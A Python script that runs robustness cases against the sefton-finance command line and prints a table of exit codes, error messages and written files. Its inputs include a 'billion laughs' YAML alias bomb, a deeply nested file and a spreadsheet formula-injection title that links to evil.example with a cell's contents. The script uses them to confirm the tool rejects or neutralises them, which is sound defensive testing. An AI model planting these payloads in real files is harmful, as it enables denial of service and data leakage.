"""Re-run the cases of issue 10's "Why" as written, on the real command line; print a table.

Each case is one ``sefton-finance`` command (a real subprocess, as a user types it)
on files made here in a temporary folder. For each it prints the exit code, the
first line of the message, whether a traceback appeared, and what was written.
The table is the one in ``docs/inputs.md``; ``tests/corpus/test_issue_cases.py``
asserts the same outcomes.

Run: ``.venv/bin/python tools/issue_10_cases.py`` (about three minutes).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from sefton_finance.baseline import PACKAGED  # noqa: E402

CLI = [sys.executable, "-m", "sefton_finance"]
SCENARIOS = REPO / "scenarios"
BOMB = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
    "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n"
    "i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
)
"""The classic 'billion laughs' (~350 bytes): 9^9 strings once expanded."""


def run(args: list, env: dict | None = None, timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*CLI, *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "COLUMNS": "400", **(env or {})},
    )


def first_line(text: str) -> str:
    lines = [line for line in text.replace("\r", "").splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith(("error:", "warning:"))]
    line = (errors or lines or [""])[0].strip()
    return line if len(line) <= 220 else line[:217] + "..."


def scenario(folder: Path, name: str, text: str) -> Path:
    path = folder / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def baseline_copy(folder: Path, name: str) -> Path:
    target = folder / name
    shutil.copytree(PACKAGED, target)
    return target


def drop_line(path: Path, starts: str) -> None:
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.startswith(starts))
    path.write_text("".join(lines[:index] + lines[index + 1 :]), encoding="utf-8")


def main() -> None:
    root = Path(tempfile.mkdtemp(prefix="issue10_"))
    s = root / "scenarios"
    s.mkdir()
    results = root / "results"
    good = run(["run", "do_nothing", "place_plan", "--out", results])
    assert good.returncode == 0, good.stderr
    mc = root / "mc"
    made = run(["run", "place_plan", "--draws", "8", "--out", mc])
    assert made.returncode == 0, made.stderr
    plan, nothing, plan_mc = results / "place_plan.nc", results / "do_nothing.nc", mc / "place_plan.nc"

    # Files the cases read.
    place = (SCENARIOS / "place_plan.yaml").read_text(encoding="utf-8")
    scenario(s, "nan", "name: nan_lever\nfinance:\n  allocation_growth: .nan\n")
    scenario(s, "inf", "name: inf_interval\nfinance:\n  allocation_growth: [0.022, .inf]\n")
    scenario(s, "typo", "name: typo\ngrowth:\n  by_pod: {ae_typ1: 0.02}\n")
    scenario(
        s, "mixed", "name: mixed\ngrowth:\n  non_demographic: 0.015\nfinance:\n  allocation_growth: [0.02, 0.03]\n"
    )
    scenario(s, "nul", 'name: nul\ntitle: "a\\0b"\n')
    scenario(s, "seed", f"name: big_seed\nseed: {2**70}\n")
    scenario(s, "badname", "name: E5 bad name\n")
    scenario(s, "year", "name: later\nhorizon:\n  base_year: '2021/22'\n")
    scenario(s, "bomb", BOMB)
    scenario(s, "deep", "name: deep\ntitle: " + "[" * 10_000 + "]" * 10_000 + "\n")
    scenario(s, "dup", "name: first\nseed: 1\nname: second\n")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")'
    scenario(s, "formula", place.replace("title: Place plan", f"title: '{formula}'").replace("name: place_plan", "name: formula"))

    allocation = baseline_copy(root, "no_allocation")
    drop_line(allocation / "allocations.csv", "southport_formby_ccg,nhs_allocation")
    other = baseline_copy(root, "no_other_spend")
    lines = (other / "other_spend.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    (other / "other_spend.csv").write_text(
        "".join([lines[0], *[line for line in lines[1:] if not line.startswith("southport_formby_ccg,")]]),
        encoding="utf-8",
    )
    waiting = baseline_copy(root, "no_waiting")
    drop_line(waiting / "waiting_list.csv", "op_first,crosby")
    capacity = baseline_copy(root, "no_capacity")
    drop_line(capacity / "capacity.csv", "aintree,acute_beds")
    lag = baseline_copy(root, "lag")
    text = (lag / "cost_structure.csv").read_text(encoding="utf-8")
    (lag / "cost_structure.csv").write_text(text.replace(",10,1,", ",10,1000000000,", 1), encoding="utf-8")
    zero = baseline_copy(root, "zero_throughput")
    text = (zero / "pods.csv").read_text(encoding="utf-8")
    (zero / "pods.csv").write_text(text.replace("linear,,,7000,", "linear,,,0,", 1), encoding="utf-8")
    encodings = {}
    for label, codec in (("cp1252", "cp1252"), ("utf16", "utf-16"), ("bom", "utf-8-sig")):
        folder = baseline_copy(root, label)
        for path in folder.glob("*.csv"):
            content = path.read_text(encoding="utf-8")
            if codec == "cp1252":
                content = content.replace("Sefton Council,", "Sefton Council £,", 1)
            path.write_bytes(content.encode(codec))
        encodings[label] = folder
    other_base = baseline_copy(root, "other_digest")
    with open(other_base / "pods.csv", "a", encoding="utf-8") as handle:
        handle.write("\n")  # same figures, different bytes: another baseline's digest
    mixed_results = root / "mixed_results"
    assert run(["run", "do_nothing", "--baseline", other_base, "--out", mixed_results]).returncode == 0

    broken = root / "broken"
    broken.mkdir()
    (broken / "truncated.nc").write_bytes(plan.read_bytes()[: plan.stat().st_size // 2])
    (broken / "foreign.nc").write_bytes(b"CDF\x01 this is not a result\n")
    import xarray as xr

    from sefton_finance.results import load, save

    ds = load(plan)
    ds.attrs["scenario_text"] = ds.attrs["scenario_text"].replace("seed: 20190401", "seed: 1")
    save(ds, broken / "tampered.nc")
    xr.Dataset({"x": ("t", [1.0, 2.0])}).to_netcdf(broken / "other_model.nc", engine="h5netcdf")
    incomplete = load(plan).drop_vars("payments")
    save(incomplete, broken / "incomplete.nc")

    read_only = root / "read_only"
    read_only.mkdir()
    if os.geteuid() == 0:
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs", str(read_only)]).returncode == 0
    else:
        read_only.chmod(0o555)
        mounted = False
    users = root / "users.txt"
    users.write_text("alice:secret\n")
    valid_users = root / "users.json"
    added = subprocess.run(
        [*CLI, "add-user", str(valid_users), "alice", "--password-stdin"],
        input="correct horse battery staple\n", capture_output=True, text=True,
    )
    assert added.returncode == 0, added.stderr
    secret_file = root / "secret"
    secret_file.write_text("x" * 48)
    secret_file.chmod(0o600)

    des = SCENARIOS / "des" / "place_plan_des.yaml"
    out = root / "out"
    cases = [
        ("Scenarios and commands", "NaN in a lever", ["run", s / "nan.yaml", "--out", out / "a"], out / "a"),
        ("Scenarios and commands", "infinity inside an interval", ["run", s / "inf.yaml", "--out", out / "b"], out / "b"),
        ("Scenarios and commands", "unknown key under growth.by_pod", ["run", s / "typo.yaml", "--out", out / "c"], out / "c"),
        ("Scenarios and commands", "returns on a Monte Carlo result", ["returns", plan_mc], None),
        ("Scenarios and commands", "run --draws on the DES scenario", ["run", des, "--draws", "5", "--out", out / "d"], out / "d"),
        ("Scenarios and commands", "tornado on the DES scenario", ["tornado", des], None),
        ("Scenarios and commands", "sweep on the DES scenario", ["sweep", des, "--set", "finance.cost_inflation=0.02,0.03", "--out", out / "e"], out / "e"),
        ("Scenarios and commands", "goal-seek on the DES scenario", ["goal-seek", des], None),
        ("Scenarios and commands", "compare --csv into a folder that does not exist", ["compare", nothing, plan, "--csv", out / "new" / "deep" / "t.csv"], None),
        ("Scenarios and commands", "report --out to a path that cannot be written", ["report", plan, "--out", "/proc/pack.html"], None),
        ("Scenarios and commands", "report on a read-only folder", ["report", plan, "--out", read_only / "pack.html"], read_only),
        ("Scenarios and commands", "compare --csv on a read-only folder", ["compare", plan, "--csv", read_only / "t.csv"], read_only),
        ("Scenarios and commands", "compare --excel on a read-only folder", ["compare", plan, "--excel", read_only / "t.xlsx"], read_only),
        ("Scenarios and commands", "schema on a read-only folder", ["schema", "--out", read_only / "schema.json"], read_only),
        ("Scenarios and commands", "an interval on one finance lever, growth levers plain (Monte Carlo)", ["run", s / "mixed.yaml", "--draws", "8", "--out", out / "f"], None),
        ("Scenarios and commands", "the same scenario in sweep", ["sweep", s / "mixed.yaml", "--set", "finance.cost_inflation=0.02,0.03", "--draws", "8", "--out", out / "g"], None),
        ("Scenarios and commands", "a NUL character in a title", ["run", s / "nul.yaml", "--out", out / "h"], out / "h"),
        ("Scenarios and commands", "a seed of 2^70", ["run", s / "seed.yaml", "--out", out / "i"], out / "i"),
        ("Scenarios and commands", "name: E5 bad name", ["validate", s / "badname.yaml"], None),
        ("Scenarios and commands", "horizon.base_year 2021/22 on the 2019/20 baseline", ["run", s / "year.yaml", "--out", out / "j"], out / "j"),
        ("Scenarios and commands", "a 354-byte alias bomb", ["validate", s / "bomb.yaml"], None),
        ("Scenarios and commands", "deep nesting", ["validate", s / "deep.yaml"], None),
        ("Scenarios and commands", "duplicate keys (name twice)", ["validate", s / "dup.yaml"], None),
        ("Baselines and results", "one CCG's row deleted from allocations.csv", ["run", "do_nothing", "--baseline", allocation, "--out", out / "k"], out / "k"),
        ("Baselines and results", "a commissioner's rows deleted from other_spend.csv", ["run", "do_nothing", "--baseline", other, "--out", out / "l"], out / "l"),
        ("Baselines and results", "a row deleted from waiting_list.csv", ["run", "do_nothing", "--baseline", waiting, "--out", out / "m"], out / "m"),
        ("Baselines and results", "a DES site's row deleted from capacity.csv", ["run", "do_nothing", "--baseline", capacity, "--out", out / "n"], out / "n"),
        ("Baselines and results", "decision_lag_years: 1000000000", ["run", "do_nothing", "--baseline", lag, "--out", out / "o"], out / "o"),
        ("Baselines and results", "zero throughput on a linear pod", ["run", "do_nothing", "--baseline", zero, "--out", out / "p"], out / "p"),
        ("Baselines and results", "every CSV in Windows-1252 (a £ in a name)", ["validate", "do_nothing", "--baseline", encodings["cp1252"]], None),
        ("Baselines and results", "every CSV in UTF-16", ["validate", "do_nothing", "--baseline", encodings["utf16"]], None),
        ("Baselines and results", "every CSV in UTF-8 with a byte-order mark", ["validate", "do_nothing", "--baseline", encodings["bom"]], None),
        ("Baselines and results", "compare on a truncated .nc", ["compare", plan, broken / "truncated.nc"], None),
        ("Baselines and results", "compare on a foreign .nc", ["compare", plan, broken / "foreign.nc"], None),
        ("Baselines and results", "compare on another program's netCDF", ["compare", broken / "other_model.nc"], None),
        ("Baselines and results", "report on an incomplete result", ["report", broken / "incomplete.nc", "--out", out / "q" / "pack.html"], out / "q"),
        ("Baselines and results", "compare on a tampered scenario text", ["compare", broken / "tampered.nc"], None),
        ("Baselines and results", "compare results from different baselines", ["compare", plan, mixed_results / "do_nothing.nc"], None),
        ("Serving", "--cookie-secret on the command line", ["serve", "--dry-run", "--cookie-secret", "x" * 48], None),
        ("Serving", "BOKEH_ALLOW_WS_ORIGIN='*' on a public address", ["serve", "--dry-run", "--address", "0.0.0.0", "--allow-websocket-origin", "board.example:5006", "--basic-auth", valid_users, "--cookie-secret-file", secret_file], None),
        ("Serving", "a one-character secret", ["serve", "--dry-run", "--basic-auth", valid_users], None),
        ("Serving", "a users file that is not JSON", ["serve", "--dry-run", "--basic-auth", users, "--cookie-secret-file", secret_file], None),
    ]
    envs = {
        "BOKEH_ALLOW_WS_ORIGIN='*' on a public address": {"BOKEH_ALLOW_WS_ORIGIN": "*"},
        "a one-character secret": {"SEFTON_COOKIE_SECRET": "x"},
    }
    print("| area | case | command | exit | message now | traceback | written |")
    print("|---|---|---|---|---|---|---|")
    try:
        for area, case, args, watched in cases:
            before = sorted(p.name for p in watched.iterdir()) if watched and watched.exists() else None
            result = run(args, env=envs.get(case))
            after = sorted(p.name for p in watched.iterdir()) if watched and watched.exists() else None
            written = "-" if watched is None else ("nothing" if after in (None, before, []) else f"{after}")
            command = "sefton-finance " + " ".join(
                str(a).replace(str(root), "$TMP").replace(str(REPO) + "/", "") for a in args
            )
            message = first_line(result.stderr) or first_line(result.stdout)
            message = message.replace(str(root), "$TMP").replace(str(REPO) + "/", "").replace("|", "\\|")
            traceback = "yes" if "Traceback" in result.stderr + result.stdout else "no"
            print(f"| {area} | {case} | `{command}` | {result.returncode} | {message} | {traceback} | {written} |")
        # The formula title: run, report, then look at the workbook's cells.
        made = run(["run", s / "formula.yaml", "--out", out / "r"])
        pack = out / "r" / "pack.html"
        reported = run(["report", out / "r" / "formula.nc", "--out", pack])
        import openpyxl

        workbook = openpyxl.load_workbook(pack.with_suffix(".xlsx"))
        formulas = sum(
            1
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        )
        texts = sum(
            1
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and "HYPERLINK" in cell.value
        )
        print(
            f"| Serving | a title starting with = in the workbook | `sefton-finance report formula.nc` | "
            f"{made.returncode}/{reported.returncode} | {formulas} formula cells; {texts} cells hold the title as text | no | - |"
        )
    finally:
        if mounted:
            subprocess.run(["umount", str(read_only)], check=False)
        else:
            read_only.chmod(0o755)
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
